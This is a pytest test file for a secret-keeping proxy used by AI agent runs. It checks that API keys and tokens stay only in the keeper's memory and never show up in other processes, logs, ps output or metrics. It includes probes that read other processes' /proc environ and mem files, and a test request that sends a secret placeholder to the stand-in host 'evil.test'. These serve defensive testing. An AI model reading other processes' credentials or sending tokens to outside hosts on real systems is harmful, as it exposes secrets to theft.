# SPDX-License-Identifier: MIT
"""Where the secrets of a shared keeper are: in its own memory, and nowhere else."""
import pathlib
import subprocess

import agent
import egress
import harness
import pytest
import shared

POST = agent.post({"model": "m"})
VALUES = {"key": shared.KEY.encode(), "token": shared.TOKEN.encode(),
          "signing": shared.TOKEN_KEY.encode(), "link": shared.LINK_KEY.encode()}


def need_memory():
    if not harness.IS_ROOT:
        pytest.skip("needs root to read the memory of processes that cannot be dumped")
    if shared.IS_SANITIZED:
        pytest.skip("a sanitizer keeps copies of the environment, and hides no process")


def everything(place, origin, https, source):
    """Settings with a secret of every kind from that source, and the keeper's environment."""
    config = shared.merge(shared.llm(origin), shared.host(https))
    config["keeper"] = {"token_keys": {"k1": "env:TOKEN_KEY"}}
    if source == "env":
        return config, {}
    paths = {name: place.write(f"secret/{name}", value.decode(), 0o600)
             for name, value in VALUES.items()}
    form = {"file": "file:{}", "exec": "exec:cat {}"}[source]
    config["llm"]["key"] = form.format(paths["key"])
    config["secrets"]["API_TOKEN"]["from"] = form.format(paths["token"])
    config["keeper"]["token_keys"]["k1"] = form.format(paths["signing"])
    config["keeper"]["link_keys"] = {"l1": form.format(paths["link"])}
    return config, {"LLM_KEY": "", "API_TOKEN": "", "TOKEN_KEY": "", "LINK_KEY": ""}


@pytest.mark.parametrize("link", ["unix", "tls"])
@pytest.mark.parametrize("source", ["env", "file", "exec"])
def test_secrets_are_in_no_memory_but_the_keepers(place, origin, https, certificates, source, link):
    """What a core dump of each process would show while requests are under way. A machine of runs that
    come over TLS holds none at all: nothing of the keeper is on it."""
    need_memory()
    origin.script = shared.answer_or_stream
    https.script = lambda connection: [connection.answer(VALUES["token"])
                                       for _ in connection.requests()]
    config, env = everything(place, origin, https, source)
    with shared.keeper(place, config, env=env, certificates=certificates) as keeper, \
            keeper.run_of(link, "r-1", "-v") as run:
        placeholder = run.python("import os; result = os.environ['API_TOKEN']")
        shared.open_stream(run)
        reply = egress.ask(run, egress.request("GET", "/", f"X-Key: {placeholder}"))
        assert reply.body == placeholder.encode()
        assert https.requests[0].values("x-key") == [shared.TOKEN]
        pids = {**run.pids(), "shared": keeper.pid()}
        carrier = {"carrier"} if link == "tls" else set()
        assert set(pids) == {"supervisor", "gate", "init", "agent", "shared"} | carrier
        for name, value in VALUES.items():
            found = {who for who, pid in pids.items() if agent.is_in_memory(value, pid)}
            assert found == {"shared"}, name  # the control is in it
            for part in ("environ", "cmdline"):
                found = {who for who, pid in pids.items()
                         if value in pathlib.Path(f"/proc/{pid}/{part}").read_bytes()}
                assert found <= {"shared"} and (part != "cmdline" or not found)


def test_a_user_cannot_look_into_its_own_keeper(user_place, origin):
    """What the agent's own user could read of other processes, the keeper's is not among it."""
    need_memory()
    with shared.keeper(user_place, shared.llm(origin)) as keeper:
        control = subprocess.Popen(user_place.command(["sleep", "60"], {"LLM_KEY": shared.KEY}))
        try:
            for pid, expected in ((keeper.pid(), False), (control.pid, True)):
                for part in ("environ", "maps", "fd/0", "mem"):
                    code = f"open('/proc/{pid}/{part}', 'rb').read(1 if '{part}' != 'mem' else 0)"
                    done = user_place.host(["python3", "-c", code])
                    assert (done.returncode == 0) == expected, (part, done.stderr)
            done = user_place.host(["cat", f"/proc/{control.pid}/environ"])
            assert shared.KEY in done.stdout  # as the control has it
        finally:
            control.kill()
            control.wait()


def test_neither_logs_nor_commands_tell_a_secret(user_place, origin, https):
    https.script = lambda connection: [connection.answer(VALUES["token"] + request.head)
                                       for request in connection.requests()]
    config, _ = everything(user_place, origin, https, "env")
    with shared.keeper(user_place, config) as keeper, keeper.run("-v", "--run-id", "r-1") as run:
        placeholder = run.python("import os; result = os.environ['API_TOKEN']")
        run.ask(POST)
        for line in (f"X-Key: {placeholder}", f"User-Agent: {placeholder}"):
            egress.ask(run, egress.request("GET", f"/?k={placeholder}", line))
        egress.ask(run, egress.request("GET", "/", f"X-Key: {placeholder}", host="evil.test"), "evil.test")
        said = [keeper.warder("ps", *words).stdout for words in ((), ("r-1",), ("--json", "r-1"))]
        keeper.reload()
        keeper.write("{")
        keeper.reload(event="reload_failed")
        run.end()
        files = [path.read_bytes() for path in keeper.top.iterdir()
                 if path.is_file() and path != keeper.file]
        texts = [*said, keeper.stderr(), run.stderr(), keeper.get("/metrics")[1]]
    found = b"".join(files) + "".join(texts).encode()
    assert b"r-1" in found and b"api.test" in found
    for name, value in VALUES.items():
        assert value not in found, name


def test_what_the_store_holds_is_for_its_owner(user_place, origin):
    config = shared.llm(origin, limits={"spend": 5})
    with shared.keeper(user_place, config) as keeper, keeper.run() as run:
        assert run.ask(POST).status == 200
        for path in keeper.top.iterdir():
            if path.name.startswith(("store.db", "audit")):
                assert path.stat().st_mode & 0o077 == 0, path
